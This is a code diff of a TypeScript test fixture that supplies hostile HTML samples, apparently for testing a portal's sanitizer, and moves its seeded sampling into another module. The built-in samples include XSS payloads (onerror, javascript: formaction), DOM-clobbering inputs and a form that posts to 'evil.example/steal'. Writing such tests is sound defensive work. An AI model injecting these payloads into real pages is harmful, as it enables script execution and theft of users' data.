@@ -1,26 +1,26 @@
+import { pickSample, SEED } from './property.ts';
 import { readSamples } from './samples.ts';
 
-/** HTML that somebody wrote to break out of a page. */
+/** HTML written to attack the page that shows it. */
 export interface HostileHtml {
   readonly id: string;
   readonly html: string;
 }
 
 /**
- * Attacks of the public collections: all with FULL=1, else as many as asked for, chosen by SEED, which is printed. Our own
- * come always.
+ * Returns our own attacks, and `count` attacks from public collections chosen by SEED, which is printed. FULL=1 returns
+ * all of them.
  */
 export function hostileHtml(count: number): readonly HostileHtml[] {
   const all = readSamples('security').flatMap(({ json }) =>
     (json as { id: string; payload: string }[]).map(({ id, payload }) => ({ id, html: payload })),
   );
   if (process.env['FULL'] || all.length === 0) return [...OWN, ...all];
-  const seed = Number(process.env['SEED'] ?? Date.now() % 1_000_000);
-  console.info(`${count} of ${all.length} attacks, SEED=${seed}; FULL=1 walks them all.`);
-  return [...OWN, ...sample(all, count, seed)];
+  console.info(`${count} of ${all.length} attacks, SEED=${SEED}; FULL=1 checks them all.`);
+  return [...OWN, ...pickSample(all, count)];
 }
 
-/** What only a form of ours could be asked to do. */
+/** Attacks on the forms of this portal. */
 const OWN: readonly HostileHtml[] = [
   '<form action="https://evil.example/steal" method="post" target="_blank"><input name="a" value="1"><button>Go</button></form>',
   '<button formaction="javascript:alert(1)" formmethod="dialog" formtarget="_top">Go</button>',
@@ -43,19 +43,3 @@ const OWN: readonly HostileHtml[] = [
   `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>`,
   '<form><input name="attributes"><input name="childNodes"><input name="removeChild"><input name="nodeName"><img src=x onerror=alert(1)></form>',
 ].map((html, index) => ({ id: `own-${index + 1}`, html }));
-
-/** The same ones for the same seed. (mulberry32) */
-function sample(all: readonly HostileHtml[], count: number, seed: number): HostileHtml[] {
-  let state = seed;
-  const random = () => {
-    state = (state + 0x6d2b79f5) | 0;
-    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
-    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed);
-    return (mixed ^ (mixed >>> 14)) >>> 0;
-  };
-  return all
-    .map((each) => ({ each, order: random() }))
-    .toSorted((a, b) => a.order - b.order)
-    .slice(0, count)
-    .map(({ each }) => each);
-}
